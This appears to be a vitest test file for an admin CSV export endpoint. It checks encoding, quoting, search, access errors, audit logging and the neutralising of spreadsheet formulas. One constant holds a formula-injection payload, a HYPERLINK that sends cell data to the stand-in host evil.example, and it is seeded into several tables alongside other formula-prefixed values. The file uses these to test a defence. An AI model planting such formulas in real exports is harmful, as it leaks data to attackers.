import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { useAdminTestApp } from '../helpers/admin-session';
import { injectJson } from '../helpers/test-app';
import { insertMany, minuteAt } from '../helpers/seed-lists';
import { proposalFiller } from '../helpers/research-proposal';

// docs/decisions/015: CSV downloads of contact forms, volunteers, proposals, supporters and payments.
const { t, admin, db } = useAdminTestApp();

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** Downloads one export with the admin's cookie; answers the response and the parsed rows (BOM checked and removed). */
async function download(kind: string, q?: string) {
  const res = await admin('GET', `/api/admin/export/${kind}.csv${q === undefined ? '' : `?q=${encodeURIComponent(q)}`}`);
  expect(res.status, res.body).toBe(200);
  expect(res.body.charCodeAt(0)).toBe(0xfeff);
  // csv-parse (an independent RFC 4180 reader) must read back exactly what was stored.
  const records: Record<string, string>[] = parse(res.body.slice(1), { columns: true, relax_quotes: false, record_delimiter: '\r\n' });
  return { res, records };
}

describe('GET /api/admin/export/{kind}.csv', () => {
  it('contact forms: BOM, headers, RFC 4180 quoting, £ and accents intact, formulas neutralised', async () => {
    await insertMany(
      db(),
      'membership_applications',
      3,
      (i) =>
        [
          { firstName: EVIL, email: 'evil@example.com', subject: '+SUM(1,2)', message: '-2+3', createdAt: minuteAt(1) },
          {
            firstName: 'Zoë Ångström',
            email: 'zoe@example.com',
            subject: 'Fees of £25, "quoted"',
            message: 'Line one\r\nLine two, with comma',
            createdAt: minuteAt(2),
          },
          { firstName: '@handle', email: 'tab@example.com', subject: '\tTabbed', message: 'Ordinary', createdAt: minuteAt(3) },
        ][i],
    );
    const { res, records } = await download('contact-forms');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contact-forms-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body).toContain('\r\n');
    expect(records).toHaveLength(3);
    const [tab, accents, evil] = records;
    expect(evil).toMatchObject({ firstName: `'${EVIL}`, subject: "'+SUM(1,2)", message: "'-2+3", email: 'evil@example.com' });
    expect(accents).toMatchObject({
      firstName: 'Zoë Ångström',
      subject: 'Fees of £25, "quoted"',
      message: 'Line one\r\nLine two, with comma',
    });
    expect(tab).toMatchObject({ firstName: "'@handle", subject: "'\tTabbed" });
    expect(Object.keys(evil)).toEqual(['id', 'createdAt', 'firstName', 'email', 'subject', 'message', 'membershipType']);
    // light-my-request decodes the body as UTF-8: the BOM (EF BB BF) and £ (C2 A3) arrive whole.
    expect(Buffer.from(res.body, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('the current search: only the matching rows', async () => {
    const { records } = await download('contact-forms', 'zoë');
    expect(records.map((r) => r.email)).toEqual(['zoe@example.com']);
  });

  it.each([
    [
      'volunteer-applications',
      'volunteer_applications',
      { name: EVIL, email: 'v@example.com', motivation: 'Curiosity, mostly', experiments: '["A","B"]' },
      'name',
      { experiments: 'A; B' },
    ],
    [
      'research-proposals',
      'research_proposals',
      {
        name: EVIL,
        email: 'r@example.com',
        title: 'T',
        ...proposalFiller,
      },
      'name',
      { title: 'T' },
    ],
    [
      'supporters',
      'viral_shares',
      { firstName: EVIL, email: 's@example.com', shareType: 'linkedin', certificationClaimed: 1 },
      'firstName',
      { certificationClaimed: 'yes' },
    ],
    [
      'payments',
      'payments',
      { firstName: EVIL, email: 'p@example.com', stripePaymentIntentId: 'pi_x', membershipType: 'premium', amount: 2500, currency: 'gbp' },
      'firstName',
      { amount: '25', currency: 'GBP', status: 'succeeded' },
    ],
  ] as const)('%s', async (kind, table, row, nameColumn, expected) => {
    await insertMany(db(), table, 1, () => ({ ...row, createdAt: minuteAt(5) }));
    const { res, records } = await download(kind);
    expect(res.headers['content-disposition']).toContain(`filename="${kind}-`);
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({ [nameColumn]: `'${EVIL}`, ...expected });
    const none = await download(kind, 'nobody-matches-this');
    expect(none.records).toEqual([]);
    expect(none.res.body).toMatch(/^\uFEFFid,createdAt,/);
  });

  it('answers 401 without a session, 404 for an unknown kind, 400 for a bad search', async () => {
    const anonymous = await injectJson(t.app, 'GET', '/api/admin/export/payments.csv');
    expect(anonymous.status).toBe(401);
    expect(anonymous.json).toEqual({ error: 'Not logged in' });
    expect((await admin('GET', '/api/admin/export/comments.csv')).status).toBe(404);
    expect((await admin('GET', `/api/admin/export/payments.csv?q=${'x'.repeat(201)}`)).status).toBe(400);
  });

  it('each download is in the audit log', async () => {
    const log = await admin('GET', '/api/admin/audit-log?kind=export');
    expect(log.json.items[0]).toMatchObject({
      kind: 'export',
      action: 'download',
      detail: 'payments: 0 rows, search "nobody-matches-this"',
    });
    expect(log.json.items[1]).toMatchObject({ detail: 'payments: 1 row' });
    expect(log.json.items.some((e) => e.detail === 'contact-forms: 1 row, search "zoë"')).toBe(true);
  });
});
